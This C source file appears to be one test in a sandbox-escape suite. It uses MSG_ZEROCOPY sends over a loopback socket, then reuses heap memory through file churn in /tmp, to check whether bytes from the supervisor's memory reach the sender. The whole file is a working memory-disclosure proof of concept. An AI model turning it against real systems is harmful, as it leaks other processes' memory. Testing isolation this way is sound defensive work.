/* MSG_ZEROCOPY pins the sender's pages until they were sent. The sender is the supervisor, with a buffer that it frees at once: what arrives late
 * is whatever its heap holds by then. */
#include "attack.h"

#include <netinet/in.h>

#define CHUNK 20000

int main(void)
{
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t len = sizeof in;
	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	static char buf[CHUNK], got[CHUNK];
	struct iovec iov = {buf, CHUNK};
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
	size_t sent = 0, bad = 0;

	NEED(bind(l, (struct sockaddr *)&in, sizeof in) == 0 && listen(l, 1) == 0 && getsockname(l, (struct sockaddr *)&in, &len) == 0);
	NEED(connect(c, (struct sockaddr *)&in, sizeof in) == 0);
	int s = accept(l, NULL, NULL);
	NEED(s >= 0);
	setsockopt(c, SOL_SOCKET, SO_ZEROCOPY, &one, sizeof one);
	memset(buf, 'A', sizeof buf);
	for (int i = 0; i < 2000; i++) {
		ssize_t n = sendmsg(c, &m, MSG_ZEROCOPY | MSG_DONTWAIT);
		if (n <= 0)
			break;
		sent += (size_t)n;
	}
	for (int i = 0; i < 2000; i++) { /* the supervisor's heap is used again */
		struct stat st;
		char path[64];
		snprintf(path, sizeof path, "/tmp/attack.%d", i);
		close(creat(path, 0600));
		stat(path, &st);
		unlink(path);
	}
	shutdown(c, SHUT_WR);
	for (ssize_t n; (n = read(s, got, sizeof got)) > 0;)
		for (ssize_t i = 0; i < n; i++)
			bad += got[i] != 'A';
	if (bad)
		won("%zu of %zu bytes came from the supervisor's memory", bad, sent);
	return verdict();
}
